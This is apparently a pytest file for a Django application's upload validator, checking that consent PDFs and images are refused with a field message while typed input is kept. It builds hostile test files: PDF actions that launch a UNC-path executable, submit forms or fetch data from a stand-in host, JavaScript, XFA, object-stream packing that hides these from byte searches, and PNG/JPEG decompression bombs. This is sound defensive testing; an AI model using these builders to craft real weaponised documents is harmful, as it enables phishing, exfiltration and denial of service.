"""Uploaded documents that would call out, or claim absurd sizes, are refused by content: the
advisor sees a message next to the file field and keeps everything typed."""

import io
import re
import struct
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from django.utils.html import escape
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from cases.models import Case
from cases.uploads import PDF_MESSAGES, consent_file_check, uploaded_document_check
from tests.cases.helpers import (
    application_post,
    application_send,
    draft_start,
    draft_step_url,
    login_verified,
)

REMOTE_URL = "https://collector.example/consent"
UNC_PATH = "\\\\collector.example\\share\\consent.pdf"


def name(value):
    return NameObject(value)


def text(value):
    return TextStringObject(value)


def url_file(url=REMOTE_URL):
    return DictionaryObject({name("/FS"): name("/URL"), name("/F"): text(url)})


def uri_action():
    return DictionaryObject({name("/S"): name("/URI"), name("/URI"): text(REMOTE_URL)})


def submit_form_action():
    return DictionaryObject(
        {
            name("/S"): name("/SubmitForm"),
            name("/F"): url_file(),
            name("/Flags"): NumberObject(4),
        }
    )


def launch_action():
    return DictionaryObject({name("/S"): name("/Launch"), name("/F"): text(UNC_PATH)})


def launch_windows_action():
    return DictionaryObject(
        {
            name("/S"): name("/Launch"),
            name("/Win"): DictionaryObject({name("/F"): text(UNC_PATH.replace(".pdf", ".exe"))}),
        }
    )


def remote_goto_action():
    return DictionaryObject(
        {
            name("/S"): name("/GoToR"),
            name("/F"): text(UNC_PATH),
            name("/D"): ArrayObject([NumberObject(0), name("/Fit")]),
        }
    )


def embedded_goto_action():
    return DictionaryObject(
        {
            name("/S"): name("/GoToE"),
            name("/F"): text(UNC_PATH),
            name("/D"): ArrayObject([NumberObject(0), name("/Fit")]),
        }
    )


def import_data_action():
    return DictionaryObject(
        {name("/S"): name("/ImportData"), name("/F"): text("\\\\collector.example\\x\\data.fdf")}
    )


ACTIONS = {
    "uri": uri_action,
    "submit-form": submit_form_action,
    "launch-unc": launch_action,
    "launch-windows": launch_windows_action,
    "goto-remote": remote_goto_action,
    "goto-embedded": embedded_goto_action,
    "import-data": import_data_action,
}


def rectangle():
    return ArrayObject([FloatObject(10), FloatObject(10), FloatObject(90), FloatObject(30)])


def page_writer():
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    return writer


def on_document_open(writer, action):
    writer.root_object[name("/OpenAction")] = action


def on_document_event(writer, action):
    # /WC: before the document closes.
    writer.root_object[name("/AA")] = DictionaryObject({name("/WC"): action})


def on_page_open(writer, action):
    writer.pages[0][name("/AA")] = DictionaryObject({name("/O"): action})


def on_link_click(writer, action):
    annotation = DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/Link"),
            name("/Rect"): rectangle(),
            name("/A"): action,
        }
    )
    writer.pages[0][name("/Annots")] = ArrayObject([annotation])


def on_annotation_hover(writer, action):
    # /E: when the pointer enters the annotation.
    annotation = DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/Square"),
            name("/Rect"): rectangle(),
            name("/AA"): DictionaryObject({name("/E"): action}),
        }
    )
    writer.pages[0][name("/Annots")] = ArrayObject([annotation])


def after_an_internal_jump(writer, action):
    # A harmless jump that chains the real action behind it with /Next.
    jump = DictionaryObject(
        {
            name("/S"): name("/GoTo"),
            name("/D"): ArrayObject([writer.pages[0].indirect_reference, name("/Fit")]),
            name("/Next"): ArrayObject([action]),
        }
    )
    writer.root_object[name("/OpenAction")] = jump


PLACES = {
    "open-action": on_document_open,
    "document-event": on_document_event,
    "page-open": on_page_open,
    "link": on_link_click,
    "annotation-event": on_annotation_hover,
    "chained": after_an_internal_jump,
}


def with_xfa(writer):
    template = DecodedStreamObject()
    template.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')
    form = DictionaryObject(
        {
            name("/Fields"): ArrayObject(),
            name("/XFA"): writer._add_object(template),
        }
    )
    writer.root_object[name("/AcroForm")] = form


def written(writer):
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def in_object_stream(content):
    """The same document with every dictionary packed into one compressed object stream and a
    cross-reference stream, as many PDF producers write it (pypdf itself does not)."""
    reader = PdfReader(io.BytesIO(content))
    numbers = sorted(reader.xref[0])
    packed, plain = [], []
    for number in numbers:
        buffer = io.BytesIO()
        item = reader.get_object(number)
        item.write_to_stream(buffer)
        (plain if isinstance(item, StreamObject) else packed).append((number, buffer.getvalue()))
    stream_number = numbers[-1] + 1
    xref_number = stream_number + 1
    header, body = [], b""
    for number, data in packed:
        header.append(f"{number} {len(body)}")
        body += data + b"\n"
    header_bytes = " ".join(header).encode() + b"\n"
    packed_data = zlib.compress(header_bytes + body)

    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, data in plain:
        offsets[number] = len(out)
        out += f"{number} 0 obj\n".encode() + data + b"\nendobj\n"
    offsets[stream_number] = len(out)
    out += (
        f"{stream_number} 0 obj\n<< /Type /ObjStm /N {len(packed)} /First {len(header_bytes)} "
        f"/Filter /FlateDecode /Length {len(packed_data)} >>\nstream\n"
    ).encode()
    out += packed_data + b"\nendstream\nendobj\n"
    offsets[xref_number] = len(out)
    where_packed = {number: index for index, (number, _data) in enumerate(packed)}
    rows = b""
    for number in range(xref_number + 1):
        if number in offsets:
            rows += struct.pack(">BIH", 1, offsets[number], 0)
        elif number in where_packed:
            rows += struct.pack(">BIH", 2, stream_number, where_packed[number])
        else:
            rows += struct.pack(">BIH", 0, 0, 65535)
    root = reader.trailer.raw_get("/Root").idnum
    out += (
        f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 2] "
        f"/Root {root} 0 R /Length {len(rows)} >>\nstream\n"
    ).encode()
    out += rows + b"\nendstream\nendobj\n"
    out += f"startxref\n{offsets[xref_number]}\n%%EOF\n".encode()
    return bytes(out)


PACKINGS = {"plain": lambda content: content, "object-stream": in_object_stream}


def png_claiming(width, height):
    def chunk(kind, data):
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00"))
        + chunk(b"IEND", b"")
    )


def jpeg_claiming(width, height):
    """A small real JPEG whose frame header claims another size."""
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), "white").save(buffer, format="JPEG")
    content = bytearray(buffer.getvalue())
    frame = content.index(b"\xff\xc0")
    content[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def photo_bytes():
    buffer = io.BytesIO()
    Image.effect_noise((1600, 1200), 40).convert("RGB").save(buffer, format="JPEG", quality=85)
    return buffer.getvalue()


@pytest.fixture
def application_page(client, advisor_a):
    login_verified(client, advisor_a)
    draft_start(client)

    def post(content, file_name="erklaerung.pdf"):
        data = application_post()
        data["consent_file"] = SimpleUploadedFile(file_name, content, "application/pdf")
        return application_send(client, data)

    return post


def field_message(response):
    assert response.status_code == 200
    html = response.content.decode()
    match = re.search(r'<p class="error-message" id="id_consent_file_error">(.*?)</p>', html)
    assert match, "no message next to the file field"
    return match.group(1).strip()


def assert_typed_input_kept(response):
    """The consent step keeps its input; the steps before it keep theirs."""
    html = response.content.decode()
    assert 'value="beraterin@example.org"' in html
    client = response.client
    html = "".join(
        client.get(draft_step_url(client.draft_first_step, step)).content.decode()
        for step in ("person", "grounds")
    )
    assert 'value="Amina Testperson"' in html
    assert "Seit zehn Jahren hier." in html
    assert Case.objects.count() == 0


def german(message):
    with translation.override("de"):
        return escape(str(message))


@pytest.mark.django_db
@pytest.mark.parametrize("packing", PACKINGS)
@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("action", ACTIONS)
def test_a_pdf_whose_actions_call_out_is_refused_next_to_the_field(
    application_page, action, place, packing
):
    writer = page_writer()
    PLACES[place](writer, ACTIONS[action]())
    content = PACKINGS[packing](written(writer))

    response = application_page(content)

    assert field_message(response) == german(PDF_MESSAGES["pdf_actions"])
    assert_typed_input_kept(response)


def test_the_object_stream_hides_the_names_from_a_byte_search():
    # So the refusals of packed documents above come from reading the parsed objects.
    writer = page_writer()
    on_document_open(writer, uri_action())
    on_page_open(writer, launch_action())
    content = in_object_stream(written(writer))
    assert b"/URI" not in content
    assert b"/Launch" not in content
    assert b"/AA" not in content
    assert PdfReader(io.BytesIO(content)).trailer["/Root"]["/OpenAction"]["/S"] == "/URI"


@pytest.mark.django_db
@pytest.mark.parametrize("packing", PACKINGS)
def test_an_xfa_form_is_refused_next_to_the_field(application_page, packing):
    writer = page_writer()
    with_xfa(writer)
    content = PACKINGS[packing](written(writer))

    response = application_page(content)

    assert field_message(response) == german(PDF_MESSAGES["pdf_xfa"])
    assert_typed_input_kept(response)


def pdf_with_internal_links():
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_blank_page(width=200, height=200)
    second_page = writer.pages[1].indirect_reference
    destination = ArrayObject([second_page, name("/Fit")])
    link_by_destination = DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/Link"),
            name("/Rect"): rectangle(),
            name("/Dest"): destination,
        }
    )
    link_by_action = DictionaryObject(
        {
            name("/Type"): name("/Annot"),
            name("/Subtype"): name("/Link"),
            name("/Rect"): rectangle(),
            name("/A"): DictionaryObject({name("/S"): name("/GoTo"), name("/D"): destination}),
        }
    )
    writer.pages[0][name("/Annots")] = ArrayObject([link_by_destination, link_by_action])
    # Office programs open at the first page with a destination, not an action.
    writer.root_object[name("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, name("/XYZ"), NumberObject(0), NumberObject(200)]
    )
    writer.add_outline_item(title="Seite 2", page_number=1)
    # A tagged PDF's structure element: its /A holds layout attributes, not an action.
    writer.root_object[name("/StructTreeRoot")] = DictionaryObject(
        {
            name("/Type"): name("/StructTreeRoot"),
            name("/K"): DictionaryObject(
                {
                    name("/S"): name("/P"),
                    name("/A"): DictionaryObject(
                        {name("/O"): name("/Layout"), name("/Placement"): name("/Block")}
                    ),
                }
            ),
        }
    )
    # Page content is stream data: names in it are drawing commands, not actions.
    drawing = DecodedStreamObject()
    drawing.set_data(b"BT /JS 12 Tf (/URI /AA <<) Tj ET")
    writer.pages[0].replace_contents(ArrayObject([drawing]))
    return written(writer)


@pytest.mark.django_db
@pytest.mark.parametrize("packing", PACKINGS)
def test_a_pdf_with_internal_links_is_accepted(application_page, packing):
    content = PACKINGS[packing](pdf_with_internal_links())
    assert consent_file_check(SimpleUploadedFile("e.pdf", content))[1] == "pdf"

    response = application_page(content)

    assert response.status_code == 302
    assert Case.objects.get().consent_file_type == "pdf"


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "file_name"),
    [
        pytest.param(png_claiming(30_000, 30_000), "foto.png", id="png-bomb"),
        pytest.param(jpeg_claiming(30_000, 30_000), "foto.jpg", id="jpeg-bomb"),
        # Above the project's limit, below the size at which Pillow even warns.
        pytest.param(jpeg_claiming(9_000, 9_000), "foto.jpg", id="jpeg-81-megapixels"),
        pytest.param(png_claiming(9_000, 9_000), "foto.png", id="png-81-megapixels"),
    ],
)
def test_an_image_with_too_many_pixels_is_refused_next_to_the_field(
    application_page, content, file_name
):
    response = application_page(content, file_name)

    message = field_message(response)
    assert "70" in message
    with translation.override("de"):
        assert message.startswith(escape("Dieses Bild hat zu viele Bildpunkte"))
    assert_typed_input_kept(response)


def test_the_png_bomb_is_a_tiny_file():
    assert len(png_claiming(30_000, 30_000)) < 100


@pytest.mark.django_db
@pytest.mark.filterwarnings("error::PIL.Image.DecompressionBombWarning")
def test_pillows_bomb_warning_turned_error_is_a_field_message_too(application_page):
    # 120 million pixels: Pillow warns; a process running with warnings as errors gets the
    # warning raised inside the check.
    response = application_page(png_claiming(12_000, 10_000), "foto.png")

    assert "Bildpunkte" in field_message(response)
    assert_typed_input_kept(response)


@pytest.mark.django_db
def test_the_pixel_limit_is_a_setting(application_page, settings):
    settings.UPLOAD_IMAGE_MAX_PIXELS = 2_000_000

    response = application_page(jpeg_claiming(2_000, 1_500), "foto.jpg")

    assert "Bildpunkte" in field_message(response)
    assert "(höchstens 2 Millionen)" in field_message(response)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("content", "file_name", "kind"),
    [
        pytest.param(photo_bytes(), "foto.jpg", "jpeg", id="photo"),
        # A 50-megapixel phone camera's full-size photo, by its header.
        pytest.param(jpeg_claiming(8_160, 6_120), "foto.jpg", "jpeg", id="50-megapixels"),
    ],
)
def test_a_normal_photo_is_accepted(application_page, content, file_name, kind):
    response = application_page(content, file_name)

    assert response.status_code == 302
    assert Case.objects.get().consent_file_type == kind


def javascript_action():
    return DictionaryObject(
        {name("/S"): name("/JavaScript"), name("/JS"): text("app.launchURL('x')")}
    )


@pytest.mark.parametrize("packing", PACKINGS)
@pytest.mark.parametrize("place", ["open-action", "page-open", "annotation-event", "chained"])
def test_a_script_anywhere_gets_the_message_about_scripts(place, packing):
    writer = page_writer()
    PLACES[place](writer, javascript_action())
    content = PACKINGS[packing](written(writer))

    with pytest.raises(ValidationError) as error:
        consent_file_check(SimpleUploadedFile("e.pdf", content))

    assert error.value.code == "pdf_active"


def test_any_document_is_checked_with_its_own_size_limit():
    photo = photo_bytes()
    assert uploaded_document_check(SimpleUploadedFile("x", photo), max_bytes=len(photo)) == (
        photo,
        "jpeg",
    )
    with pytest.raises(ValidationError) as error:
        uploaded_document_check(SimpleUploadedFile("x", photo), max_bytes=len(photo) - 1)
    assert error.value.code == "size"
